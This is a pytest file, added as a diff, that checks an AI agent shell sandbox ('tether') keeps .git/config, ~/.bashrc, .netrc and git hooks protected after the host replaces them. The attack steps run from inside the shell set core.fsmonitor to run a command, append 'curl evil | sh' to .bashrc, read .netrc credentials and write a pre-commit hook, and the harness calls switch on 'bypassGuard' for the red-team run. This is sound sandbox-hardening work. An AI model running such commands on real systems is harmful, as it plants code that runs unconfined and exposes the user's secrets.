@@ -1,0 +1,226 @@
+"""A living confined shell keeps its protection when the *host* replaces a protected or hidden path.
+
+Linux drops a mount from every other namespace when the host renames a file over the mount point
+(or removes it), so without the keeper (``tether.shell.sandbox.keeper``) a person's ``git config``
+left the agent's shell free to write ``.git/config`` (``core.fsmonitor`` runs at the person's next
+``git status``, unconfined), an editor's save left ``~/.bashrc`` writable and a hidden file
+readable. Tests here replace the paths exactly as those programs do, then attack from inside.
+
+The keeper needs about a millisecond; so the shell first asks, without writing (``[ -w ]``, the
+kernel's answer for a read-only mount), until the path is covered again — and the test fails if that
+never happens.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import secrets
+import signal
+import subprocess
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import anyio
+import pytest
+from mcp import Client
+from sandbox_mcp_harness import server
+
+from tether.shell.sandbox import keeper
+
+pytestmark = pytest.mark.timeout(240)
+COVERED_WITHIN_S = 30.0  # a deadline for a busy machine, never a measure
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("# the user's bashrc\n")
+    subprocess.run(["git", "init", "-q", str(home / "repo")], check=True)
+    return home
+
+
+async def _run(client: Client, shell: str, command: str) -> dict[str, Any]:
+    task = {
+        "target": {"sessions": shell},
+        "action": {"kind": "run", "command": command},
+        "wait": {"kind": "exit"},
+        "safety": {"bypassGuard": True, "reason": "red team: the sandbox alone must hold"},
+    }
+    result = await client.call_tool("shell_run", {"tasks": [task]})
+    out: dict[str, Any] = (result.structured_content or {})["tasks"][0]
+    assert out["met"] is True, json.dumps(out)
+    return out
+
+
+async def _until(client: Client, shell: str, test: str) -> None:
+    """Ask the shell ``test`` (a command that writes nothing) until it prints ``yes``."""
+    deadline = time.monotonic() + COVERED_WITHIN_S
+    while True:
+        out = await _run(client, shell, f"if {test}; then echo yes; else echo no; fi")
+        if "yes" in out["lines"]:
+            return
+        assert time.monotonic() < deadline, f"never true inside the shell: {test}"
+
+
+def _replace(path: Path, text: str) -> None:
+    """As an editor saves: a new file renamed over the old one."""
+    fresh = path.with_name(f".{path.name}.{secrets.token_hex(3)}")
+    fresh.write_text(text)
+    fresh.rename(path)
+
+
+async def test_a_path_the_host_replaces_stays_protected_in_a_living_shell(
+    tether_home: Path, home: Path
+) -> None:
+    secret = home / ".netrc"
+    secret.write_text("machine example.com password before\n")
+    (tether_home / "config.toml").write_text(f'[sandbox]\nhidden_paths = ["{secret}"]\n')
+    config = home / "repo" / ".git" / "config"
+    async with server(tether_home, home, "--sandbox") as client:
+        opened = await client.call_tool("shell_open", {"tasks": [{"action": {"kind": "open"}}]})
+        shell = (opened.structured_content or {})["tasks"][0]["shell"]
+        first = await _run(
+            client, shell, "[ -w repo/.git/config ] || [ -w .bashrc ] || echo covered; cat .netrc"
+        )
+        assert first["lines"][:1] == ["covered"] and "before" not in " ".join(first["lines"]), first
+
+        # The person, at the host: git writes config.lock and renames it over config; the editor
+        # saves .bashrc; a password manager rewrites .netrc.
+        git = ["git", "-C", str(home / "repo"), "config", "branch.main.remote", "origin"]
+        await anyio.run_process(git, check=True)
+        _replace(home / ".bashrc", "# edited by the person\n")
+        _replace(secret, "machine example.com password after\n")
+
+        await _until(client, shell, "[ ! -w repo/.git/config ] && [ ! -w .bashrc ] && [ ! -s .netrc ]")
+        attack = await _run(
+            client,
+            shell,
+            "git config core.fsmonitor 'touch /tmp/pwned' -f repo/.git/config; echo git=$?; "
+            "echo 'curl evil | sh' >> .bashrc; echo rc=$?; cat .netrc; echo read=$?",
+        )
+        assert "git=0" not in attack["lines"] and "rc=1" in attack["lines"], attack
+        assert not any("after" in line for line in attack["lines"]), attack
+    assert "fsmonitor" not in config.read_text() and "origin" in config.read_text()
+    assert (home / ".bashrc").read_text() == "# edited by the person\n"
+
+
+async def test_a_directory_the_host_replaces_keeps_the_protection_below_it(
+    tether_home: Path, home: Path
+) -> None:
+    hooks = home / "repo" / ".git" / "hooks"
+    async with server(tether_home, home, "--sandbox") as client:
+        opened = await client.call_tool("shell_open", {"tasks": [{"action": {"kind": "open"}}]})
+        shell = (opened.structured_content or {})["tasks"][0]["shell"]
+        before = await _run(client, shell, "[ -w repo/.git/hooks ] || echo covered")
+        assert "covered" in before["lines"], before
+        # A hooks manager swaps in a new hooks directory.
+        fresh = hooks.with_name("hooks.new")
+        fresh.mkdir()
+        (fresh / "pre-commit.sample").write_text("#!/bin/sh\n")
+        hooks.rename(hooks.with_name("hooks.old"))
+        fresh.rename(hooks)
+
+        await _until(client, shell, "[ ! -w repo/.git/hooks ]")
+        attack = await _run(
+            client, shell, "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > repo/.git/hooks/pre-commit; echo w=$?"
+        )
+        assert "w=1" in attack["lines"], attack
+    assert not (hooks / "pre-commit").exists()
+
+
+# The keeper's own parts, against a real process in its own mount namespace (``unshare -m``, the
+# parent standing in for bubblewrap): root only, as the sandbox's tests are.
+needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="mount namespaces here need root")
+
+
+@pytest.fixture
+def namespaced() -> Iterator[subprocess.Popen[bytes]]:
+    """A ``sh`` (bubblewrap's stand-in) whose child sleeps in a mount namespace of its own."""
+    parent = subprocess.Popen(["sh", "-c", "unshare -m --propagation private sleep 600 & wait"])
+    try:
+        deadline = time.monotonic() + COVERED_WITHIN_S
+        while keeper.sandbox_pid(parent.pid) is None:
+            assert time.monotonic() < deadline, "unshare never started"
+            time.sleep(0.01)
+        yield parent
+    finally:
+        subprocess.run(["pkill", "-KILL", "-P", str(parent.pid)], check=False)
+        parent.kill()
+        parent.wait()
+
+
+def _mounted(pid: int, path: Path) -> list[str]:
+    lines = Path(f"/proc/{pid}/mountinfo").read_text().splitlines()
+    return [line for line in lines if line.split()[4] == str(path)]
+
+
+@needs_root
+def test_the_keeper_mounts_again_only_what_the_host_replaced(
+    tmp_path: Path, namespaced: subprocess.Popen[bytes]
+) -> None:
+    pinned = tmp_path / "pinned"
+    (pinned / "inner").mkdir(parents=True)
+    kept_file, untouched, hidden = pinned / "inner" / "kept", tmp_path / "untouched", tmp_path / "hidden"
+    for path in (kept_file, untouched, hidden):
+        path.write_text("x")
+    kept = [(pinned, "bind"), (kept_file, "ro"), (untouched, "ro"), (hidden, "null")]
+    watcher = keeper.Keeper([[str(path), kind] for path, kind in kept])
+    watcher.watch()
+    try:
+        assert watcher.due(*watcher.events()) == []
+        _replace(hidden, "y")
+        assert watcher.due(*watcher.events()) == [(str(hidden), "null")]
+        # The pinned directory replaced: it and everything kept below it, even unchanged.
+        pinned.rename(tmp_path / "old")
+        (tmp_path / "new" / "inner").mkdir(parents=True)
+        kept_file.with_name("x")  # (path objects only)
+        (tmp_path / "new" / "inner" / "kept").write_text("z")
+        (tmp_path / "new").rename(pinned)
+        made = watcher.due(*watcher.events())
+        assert made == [(str(pinned), "bind"), (str(kept_file), "ro")]
+        watcher.rewatch(made)
+        _replace(kept_file, "w")  # seen through the new directory's watch
+        assert watcher.due(*watcher.events()) == [(str(kept_file), "ro")]
+        # Lost events: every path is checked, and only the replaced ones come back.
+        assert watcher.due(set(), True) == []
+
+        sandbox = keeper.sandbox_pid(namespaced.pid)
+        assert sandbox is not None
+        assert keeper.mount_again(sandbox, [(str(kept_file), "ro"), (str(hidden), "null")])
+        inside = _mounted(sandbox, kept_file)
+        assert inside and "ro" in inside[-1].split()[5].split(","), inside
+        assert _mounted(sandbox, hidden) and not _mounted(os.getpid(), kept_file)
+    finally:
+        os.close(watcher.fd)
+
+
+@needs_root
+def test_a_keeper_that_cannot_mount_again_ends_the_sandbox(
+    tmp_path: Path, namespaced: subprocess.Popen[bytes]
+) -> None:
+    kept_file = tmp_path / "kept"
+    kept_file.write_text("x")
+    watcher = keeper.Keeper([[str(kept_file), "ro"]])
+    watcher.watch()
+    tried: list[int] = []
+
+    def refuse(pid: int, made: object) -> bool:
+        tried.append(pid)
+        return False
+
+    thread = threading.Thread(target=keeper.keep, args=(watcher, namespaced.pid, refuse))
+    thread.start()
+    try:
+        _replace(kept_file, "y")
+        assert namespaced.wait(timeout=COVERED_WITHIN_S) == -signal.SIGKILL
+        thread.join(COVERED_WITHIN_S)
+        assert not thread.is_alive() and tried
+    finally:
+        namespaced.kill()
+        thread.join(COVERED_WITHIN_S)
+        os.close(watcher.fd)
